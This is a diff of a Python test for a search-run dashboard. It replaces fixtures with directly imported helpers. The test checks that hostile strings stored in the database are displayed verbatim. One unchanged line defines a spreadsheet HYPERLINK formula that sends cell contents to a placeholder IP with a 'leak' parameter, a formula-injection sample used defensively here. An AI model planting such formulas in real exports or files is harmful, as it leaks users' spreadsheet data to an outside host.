@@ -2,6 +2,7 @@
 
 import csv
 
+from dashboards import Search, serving
 from sqlalchemy import create_engine, text
 
 ILL = (
@@ -12,9 +13,9 @@ ILL = (
 FORMULA = '=HYPERLINK("http://192.0.2.1/?leak="&A1)'
 
 
-def test_hostile_texts_are_shown_as_they_are(tmp_path, new_search, serve, visit):
+def test_hostile_texts_are_shown_as_they_are(tmp_path, visit):
     url = f"sqlite:///{tmp_path}/nas.db"
-    search = new_search(url, ILL, "resnet", sampler="random", scheduler="none", trials=4)
+    search = Search(url, ILL, "resnet", sampler="random", scheduler="none", trials=4)
     search.run(failing={1: ILL, 2: FORMULA})
     with create_engine(url).begin() as connection:
         changed = connection.execute(
@@ -24,7 +25,7 @@ def test_hostile_texts_are_shown_as_they_are(tmp_path, new_search, serve, visit)
         connection.execute(
             text("UPDATE nas_studies SET space = json_set(space, '$.name', :ill)"), {"ill": ILL}
         )
-    with serve(url, tmp_path) as (address, _, _):
+    with serving(url, tmp_path) as (address, _, _):
         visitor = visit(address)
         browser = visitor.browser
         for title in (
